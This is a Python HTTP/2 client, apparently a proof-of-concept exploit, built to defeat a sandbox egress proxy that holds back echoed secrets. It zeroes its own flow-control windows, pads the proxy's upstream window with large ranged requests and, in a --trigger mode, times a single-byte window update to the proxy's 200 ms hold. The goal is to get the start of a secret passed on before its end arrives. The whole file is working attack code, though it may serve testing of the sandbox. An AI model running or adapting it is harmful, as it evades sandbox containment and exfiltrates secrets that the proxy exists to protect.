#!/usr/bin/env python3
"""An HTTP/2 client, run inside a sandbox, that tries to have the proxy
pass on the start of an echoed secret before its end can come.

Through the sandbox's CONNECT proxy ($HTTPS_PROXY) to HOST, it tells the
proxy that its own windows are 0 (the proxy can send it nothing), takes
all but SPARE bytes of the proxy's window toward the upstream with
padding (/big on three streams, a Range of it on a fourth, or Ranges on
all four with --ranged), then asks PATH with HEADER: the upstream can
send only SPARE bytes of the answer, the rest waits for the window. After
a pause longer than the proxy's hold it opens its windows and reads on.

With --trigger US it times the window instead: the two ranged padding
streams are read whole and the first read from, to one byte short of
what makes the proxy give the upstream window again (half its window);
then the request, and one byte more of window sent when the proxy's hold
of the answer's start would end (its HEADERS' arrival + 200 ms + US
microseconds): the proxy then gives the upstream window just as the hold
is over, before the upstream can use it.

Prints the answer's body as Python bytes ("body: b'...'") and how it came
("pieces: [...]", "ended: why" when the connection ended).

usage: h2window.py HOST SPARE PATH HEADER VALUE [--ranged | --trigger US]
"""
import os
import select
import socket
import ssl
import struct
import sys
import time

PROXY_CONNECTION_WINDOW = 1024 * 1024   # what corrald gives its upstream
PROXY_STREAM_WINDOW = 256 * 1024
PAUSE_S = 0.8                           # over the proxy's hold of 200 ms
HOLD_S = 0.2                            # the proxy's hold
HOLD_OPEN = 1 << 30
ECHO_STREAM = 9


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def hpack_int(n, prefix=7):
    top = (1 << prefix) - 1
    if n < top:
        return bytes([n])
    out = [top]
    n -= top
    while n >= 128:
        out.append((n & 127) | 128)
        n >>= 7
    return bytes(out + [n])


def hpack_literal(name, value):
    """A literal header field without indexing, neither string Huffman-coded."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name)) + name + hpack_int(len(value)) + value


class Client:
    def __init__(self, host):
        proxy = os.environ["HTTPS_PROXY"].split("//", 1)[1].rstrip("/")
        phost, pport = proxy.rsplit(":", 1)
        raw = socket.create_connection((phost, int(pport)), timeout=10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        raw.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n"
                     % (host, host)).encode())
        head = b""
        while b"\r\n\r\n" not in head:
            head += raw.recv(1)
        ctx = ssl.create_default_context()
        ctx.set_alpn_protocols(["h2"])
        self.tls = ctx.wrap_socket(raw, server_hostname=host)
        if self.tls.selected_alpn_protocol() != "h2":
            raise SystemExit("no h2: %s" % self.tls.selected_alpn_protocol())
        self.host = host
        self.pending = b""
        self.bodies = {}
        self.heads_at = {}              # stream: when its HEADERS came
        self.ended = None
        # Our windows: 0 for every stream (INITIAL_WINDOW_SIZE), no push,
        # the connection's opened wide: the streams' windows hold all.
        self.tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
                         frame(4, 0, 0, struct.pack(">HI", 4, 0) + struct.pack(">HI", 2, 0)))
        self.tls.sendall(frame(8, 0, 0, struct.pack(">I", HOLD_OPEN)))

    def get(self, stream, path, extra=()):
        fields = [(":method", "GET"), (":scheme", "https"), (":path", path),
                  (":authority", self.host)] + list(extra)
        block = b"".join(hpack_literal(k, v) for k, v in fields)
        self.tls.sendall(frame(1, 0x5, stream, block))

    def open_windows(self):
        self.tls.sendall(frame(4, 0, 0, struct.pack(">HI", 4, (1 << 31) - 1)))

    def window(self, stream, n):
        self.tls.sendall(frame(8, 0, stream, struct.pack(">I", n)))

    def got(self, stream):
        return sum(len(p) for p in self.bodies.get(stream, []))

    def frames(self):
        while len(self.pending) >= 9:
            size = int.from_bytes(self.pending[:3], "big")
            if len(self.pending) < 9 + size:
                return
            kind, flags = self.pending[3], self.pending[4]
            stream = struct.unpack(">I", self.pending[5:9])[0] & 0x7fffffff
            payload = self.pending[9:9 + size]
            self.pending = self.pending[9 + size:]
            yield kind, flags, stream, payload

    def pump(self, seconds):
        deadline = time.time() + seconds
        while self.ended is None and time.time() < deadline:
            ready, _, _ = select.select([self.tls], [], [], max(0, deadline - time.time()))
            if not ready and self.tls.pending() == 0:
                continue
            try:
                data = self.tls.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except OSError as e:
                self.ended = "error: %s" % e
                return
            if not data:
                self.ended = "closed"
                return
            self.pending += data
            for kind, flags, stream, payload in self.frames():
                self.on_frame(kind, flags, stream, payload)

    def on_frame(self, kind, flags, stream, payload):
        if kind == 4 and not flags & 1:
            self.tls.sendall(frame(4, 1, 0))
        elif kind == 6 and not flags & 1:
            self.tls.sendall(frame(6, 1, 0, payload))
        elif kind == 0:
            if flags & 8:
                payload = payload[1:len(payload) - payload[0]]
            self.bodies.setdefault(stream, []).append(payload)
        elif kind == 1:
            self.heads_at.setdefault(stream, time.perf_counter())
        elif kind == 7:
            self.ended = "goaway"


def pad(c, spare, ranged):
    """All but SPARE bytes of the proxy's window toward the upstream: /big
    on streams 1, 3 and 5 (a stream's window of it on those RANGED, which
    then end upstream), a Range of it on 7 (which ends)."""
    padding = PROXY_CONNECTION_WINDOW - spare
    for stream in (1, 3, 5):
        extra = [("range", "bytes=0-%d" % (PROXY_STREAM_WINDOW - 1))] \
            if stream in ranged else []
        c.get(stream, "/big", extra)
        padding -= PROXY_STREAM_WINDOW
    c.get(7, "/big", [("range", "bytes=0-%d" % (padding - 1))])
    c.pump(1.5)


def paused(c, path, header, value):
    c.get(ECHO_STREAM, path, [(header, value)])
    c.pump(PAUSE_S)
    c.open_windows()
    c.pump(3)


def timed(c, path, header, value, offset_s):
    # Read the ended padding streams whole (no stream window is given back
    # for them), then from stream 1 to one byte short of half the window.
    c.window(5, PROXY_STREAM_WINDOW)
    c.window(7, PROXY_STREAM_WINDOW)
    c.pump(0.5)
    c.window(1, PROXY_CONNECTION_WINDOW // 2 - 1 - c.got(5) - c.got(7))
    c.pump(0.5)
    c.get(ECHO_STREAM, path, [(header, value)])
    c.window(ECHO_STREAM, PROXY_STREAM_WINDOW)
    c.pump(0.05)
    if ECHO_STREAM not in c.heads_at:
        raise SystemExit("no answer's head came")
    due = c.heads_at[ECHO_STREAM] + HOLD_S + offset_s
    time.sleep(max(0, due - time.perf_counter() - 0.003))
    while time.perf_counter() < due:
        pass
    c.window(1, 1)
    c.pump(1.5)


def main():
    host, spare, path, header, value = sys.argv[1:6]
    spare = int(spare)
    c = Client(host)
    c.pump(0.3)
    if "--trigger" in sys.argv[6:]:
        offset_us = int(sys.argv[sys.argv.index("--trigger") + 1])
        pad(c, spare, (5,))
        timed(c, path, header, value, offset_us / 1e6)
    else:
        pad(c, spare, (1, 3, 5) if "--ranged" in sys.argv[6:] else ())
        paused(c, path, header, value)
    pieces = c.bodies.get(ECHO_STREAM, [])
    print("pieces: %s" % [len(p) for p in pieces])
    print("body: %r" % b"".join(pieces))
    if c.ended:
        print("ended: %s" % c.ended)


if __name__ == "__main__":
    main()
